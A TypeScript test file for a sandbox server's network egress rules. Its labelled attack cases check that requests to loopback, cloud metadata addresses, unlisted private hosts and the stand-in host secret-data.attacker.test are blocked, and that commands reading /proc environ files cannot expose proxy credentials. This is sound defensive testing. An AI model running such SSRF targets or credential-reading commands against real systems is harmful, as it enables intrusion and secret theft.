/**
 * Hosts of the owner's own network, and the owner's own proxy. This test resolves names and dials every connection to the
 * loopback; it records the addresses that would have been dialled.
 */
import { once } from 'node:events';
import { createServer as createHttp, type IncomingHttpHeaders } from 'node:http';
import type { AddressInfo, Server } from 'node:net';
import { networkInterfaces } from 'node:os';
import { join } from 'node:path';
import { Sandbox } from 'e2b';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { preparedDataFolder } from '../../../../scripts/testing/prepared-data.ts';
import { removeFolder } from '../../../../scripts/testing/remove-folder.ts';
import { systemDialer } from '../../src/egress/dial.ts';
import { startSandboxServer, type SandboxServer } from '../../src/index.ts';

const API_KEY = 'private-hosts-key';
const START_TIMEOUT_MS = 180_000;
const PASSWORD = 'proxy-password-91d2';
const AUTHORIZATION = `Basic ${Buffer.from(`builder:${PASSWORD}`).toString('base64')}`;
const GOOD = '10.20.0.9';

let folder = '';
let server: SandboxServer;
let sandbox: Sandbox;
const listeners: Server[] = [];
/** The addresses of the allowed name, which its owner can change at any time. */
let answer = [GOOD];
const dialled: string[] = [];
const proxied: { what: string; headers: IncomingHttpHeaders }[] = [];

async function listen(listener: Server): Promise<number> {
  listeners.push(listener);
  listener.listen(0, '127.0.0.1');
  await once(listener, 'listening');
  return (listener.address() as AddressInfo).port;
}

beforeAll(async () => {
  folder = await preparedDataFolder();
  const site = await listen(createHttp((_request, response) => response.end('REACHED')));
  const proxy = createHttp((request, response) => {
    proxied.push({ what: request.url ?? '', headers: request.headers });
    response.end('THROUGH THE PROXY');
  });
  proxy.on('connect', (request, socket) => {
    proxied.push({ what: request.url ?? '', headers: request.headers });
    socket.end('HTTP/1.1 502 Bad Gateway\r\n\r\n');
  });
  const proxyUrl = `http://builder:${PASSWORD}@127.0.0.1:${await listen(proxy)}`;
  server = await startSandboxServer({
    apiKey: API_KEY,
    dataDir: join(folder, 'sandboxes'),
    egress: {
      onlyThese: true,
      allow: ['npm.corp.test=private', 'pinned.corp.test=10.20.0.0/16', 'public.test'],
      upstreamProxy: { https: proxyUrl, http: proxyUrl, noProxy: '.corp.test,10.0.0.0/8' },
    },
    resolve: async (host) => {
      if (host.endsWith('.corp.test')) return answer;
      throw new Error('this machine resolves no outside name');
    },
    dial: (address, port) => {
      dialled.push(`${address}:${port}`);
      return systemDialer('127.0.0.1', site);
    },
  });
  const { apiUrl, sandboxUrl } = server;
  sandbox = await Sandbox.create('base', { apiKey: API_KEY, apiUrl, sandboxUrl });
}, START_TIMEOUT_MS);
afterAll(async () => {
  await server.close('stop');
  for (const listener of listeners) listener.close();
  removeFolder(folder);
});
beforeEach(() => {
  answer = [GOOD];
  dialled.length = 0;
  proxied.length = 0;
});

async function inside(command: string): Promise<string> {
  const { stdout } = await sandbox.commands.run(`{ ${command}; } 2>&1 || true`);
  return stdout;
}
const curl = (url: string): Promise<string> => inside(`curl -sS -m 10 '${url}'`);

describe('a host at a private address', () => {
  it('is reachable by its entry, directly and at that address', async () => {
    expect(await curl('http://npm.corp.test/')).toBe('REACHED');
    expect(dialled).toEqual([`${GOOD}:80`]);
    expect(proxied).toEqual([]);
  });

  it('[AT-N1] attack: the name of an entry points at loopback, metadata or the host itself', async () => {
    const own = Object.values(networkInterfaces())
      .flat()
      .flatMap((address) => (address === undefined ? [] : [address.address]));
    const targets = [
      '127.0.0.1',
      '0.0.0.0',
      '169.254.169.254',
      '169.254.170.2',
      '100.100.100.200',
      '::1',
      'fe80::1',
      'fd00:ec2::254',
      '::ffff:169.254.169.254',
      '64:ff9b::7f00:1',
      ...own,
    ];
    for (const target of targets) {
      answer = [target];
      const said = await curl('http://npm.corp.test/');
      expect([target, said]).toEqual([target, expect.stringContaining('(rule address)')]);
    }
    expect(dialled).toEqual([]);
    // Of several addresses, only the allowed one is dialled.
    answer = ['169.254.169.254', GOOD];
    expect(await curl('http://npm.corp.test/')).toBe('REACHED');
    expect(dialled).toEqual([`${GOOD}:80`]);
  }, 120_000);

  it('[AT-N2] attack: one entry opens other hosts, addresses or ports of the private network', async () => {
    expect(await curl(`http://${GOOD}/`)).toContain('Ship refused');
    expect(await curl('http://other.corp.test/')).toContain('(rule not-listed)');
    expect(await curl('http://sub.npm.corp.test/')).toContain('(rule not-listed)');
    expect(await curl('http://npm.corp.test:8080/')).toContain('(rule port)');
    answer = ['10.99.0.1'];
    expect(await curl('http://pinned.corp.test/')).toContain('(rule address)');
    expect(dialled).toEqual([]);
    expect(proxied).toEqual([]);
  }, 60_000);
});

describe('the proxy of the owner', () => {
  it('[AT-N3] attack: its own loopback, metadata and private addresses are reached through it', async () => {
    const { apiUrl, sandboxUrl } = server;
    const open = await Sandbox.create('base', {
      apiKey: API_KEY,
      apiUrl,
      sandboxUrl,
      network: { allowOut: ['*'] },
    });
    const hosts = [
      'localhost',
      'a.localhost',
      'metadata.google.internal',
      '127.0.0.1',
      '169.254.169.254',
      '10.20.0.9',
      '192.168.1.1',
      '[::1]',
      '[fd00:ec2::254]',
    ];
    for (const host of hosts) {
      // Ignores the client's NO_PROXY, so that every request reaches the egress proxy.
      const command = `curl -sS -m 10 --noproxy '' -g 'http://${host}/' 2>&1 || true`;
      const { stdout } = await open.commands.run(command);
      expect([host, stdout]).toEqual([host, expect.stringContaining('(rule address)')]);
    }
    await open.kill();
    expect(proxied).toEqual([]);
    expect(dialled).toEqual([]);
  }, 120_000);

  it('[AT-N4] attack: names that are not listed are resolved or reached through it', async () => {
    expect(await curl('http://secret-data.attacker.test/')).toContain('(rule not-listed)');
    expect(await curl('https://secret-data.attacker.test/')).toContain('403');
    expect(proxied).toEqual([]);
  });

  it('[AT-N5] attack: its credentials are read inside, or replaced from inside', async () => {
    const seen = await inside(
      [
        `curl -sv -H 'Proxy-Authorization: Basic bWluZQ==' http://public.test/`,
        'curl -sv https://public.test/',
        'env',
        `cat /proc/*/environ /proc/*/cmdline | tr '\\0' '\\n'`,
        'ls -laR /run/certificates /run/egress',
      ].join('; '),
    );
    expect(seen).toContain('THROUGH THE PROXY');
    expect(proxied.map(({ what }) => what)).toEqual(['http://public.test/', 'public.test:443']);
    for (const { headers } of proxied) expect(headers['proxy-authorization']).toBe(AUTHORIZATION);
    expect(seen).not.toContain(PASSWORD);
    expect(seen).not.toContain(AUTHORIZATION.slice('Basic '.length));
  });
});
